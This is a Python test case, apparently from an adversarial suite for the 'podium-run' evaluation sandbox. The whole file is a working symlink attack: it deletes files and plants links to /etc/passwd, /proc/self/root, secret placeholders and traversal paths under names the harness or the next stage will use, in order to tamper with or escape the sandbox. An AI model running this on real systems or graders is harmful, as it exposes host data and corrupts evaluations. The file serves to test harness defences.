# 101 folder_links
# attempts: to leave symbolic links to files and folders of the host in the stage `test`. Their
#   names are those that podium-run, the sandbox, the harness or the compiler's caches use next, or
#   that podium-run removes at the end
# required: VERDICT
# mode: ranked
import os
import sys
from attack import custom_kernel

TARGETS = ["@VICTIM@/open", "@VICTIM@/open/keep", "@SECRET@", "@VICTIM@", "/etc/passwd", "/tmp", "/", "..", "../../../../../..", "/proc/self/root",
           "/proc/1/root/@VICTIM@/open", "/proc/self/cwd", "/dev/null", "/dev/stdin", "loop", "x" * 4000]
NAMES = ["eval.out", "profile.ncu-rep", "cases.txt", "submission.py", "eval.py", "check_syntax.py", "run", "home", "tmp", "cache", "test",
         "ranked", "compile", "removed-1", "removed-2", "removed-3", "__pycache__", ".triton", ".nv", ".cache", "loop", "proc", "dev"]
CACHES = [value for name, value in os.environ.items() if name.endswith(("_DIR", "_HOME", "_PATH")) and "/" in value and name != "TMPDIR"]


def link(place, name, target):
    path = os.path.join(place, name)
    for remove in (os.unlink, os.rmdir):
        try:
            remove(path)
        except OSError:
            pass
    try:
        os.symlink(target, path)
    except OSError:
        pass


def leave():
    number = 0
    for place in [".", "..", "../..", os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm", *map(os.path.dirname, CACHES)]:
        for name in NAMES:
            link(place, name, TARGETS[number % len(TARGETS)])
            number += 1
        for number, target in enumerate(TARGETS):
            link(place, f"link-{number}", target)
    for path in CACHES:  # the folders that the next stage will be told to use
        link(os.path.dirname(path), os.path.basename(path), "@VICTIM@/open")


leave()
